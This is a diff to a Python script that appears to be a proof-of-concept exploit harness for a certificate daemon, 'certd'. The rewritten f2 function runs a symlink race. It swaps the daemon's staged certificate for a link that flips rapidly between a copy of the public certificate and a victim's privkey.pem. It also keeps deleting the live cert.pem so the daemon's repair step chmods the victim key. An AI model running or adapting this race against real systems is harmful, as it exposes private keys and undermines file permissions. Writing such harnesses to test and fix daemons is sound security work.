@@ -46,31 +46,43 @@ def f1() -> None:
 
 
 def f2() -> None:
-    """Race the drift repair: remove the live file (so certd repairs and re-fixes the staged
-    file's mode), and flip the staged name to a symlink to the victim file meanwhile."""
+    """Race the drift repair's mode fix (F2). The staged name is a symlink to a hop the attacker
+    flips between a copy of the (public) certificate and the victim key: certd reads through it
+    and sees its own content, then chmods through it, hoping to land on the victim. Deleting
+    the live cert.pem again and again keeps the daemon's drift repair coming back."""
+    import stat
     live = os.path.join(deploy, "cert.pem")
+    staged = os.path.join(deploy, ".cert.pem.certd-0001")
+    hop, copy = os.path.join(deploy, ".attacker-hop"), os.path.join(deploy, ".attacker-copy")
+    tmp = os.path.join(deploy, ".attacker-tmp")
     target = os.path.join(victim, "0001", "privkey.pem")
+    with open(live, "rb") as f:
+        data = f.read()
+    with open(copy, "wb") as f:
+        f.write(data)
     say("ready")
-    flips = 0
+    flips = unlinks = 0
     while going():
-        staged = [n for n in os.listdir(deploy) if n.startswith(".cert.pem.certd-") and n[-1].isdigit()]
-        if os.path.exists(live) and not os.path.islink(live):
+        try:
+            if not stat.S_ISLNK(os.lstat(staged).st_mode):
+                os.symlink(hop, tmp)
+                os.rename(tmp, staged)           # staged -> hop, from now on
+        except OSError:
+            pass
+        try:
+            if stat.S_ISREG(os.lstat(live).st_mode):
+                os.unlink(live)                  # drift: the daemon repairs it
+                unlinks += 1
+        except OSError:
+            pass
+        for where in [copy, target] * 100:       # hop -> our copy / the victim, back and forth
             try:
-                os.unlink(live)  # drift: certd redeploys, re-staging the same version
-            except FileNotFoundError:
-                pass
-        for n in staged:
-            p = os.path.join(deploy, n)
-            tmp = p + ".attacker"
-            try:
-                os.symlink(target, tmp)
-                os.rename(tmp, p)         # now a symlink to the victim...
-                time.sleep(0.0005)
-                os.unlink(p)              # ...and gone again: certd writes a fresh file
+                os.symlink(where, tmp)
+                os.rename(tmp, hop)
                 flips += 1
             except OSError:
                 pass
-    say(f"f2: {flips} flips")
+    say(f"f2: {flips} flips, {unlinks} live files removed")
 
 
 def f3() -> None:
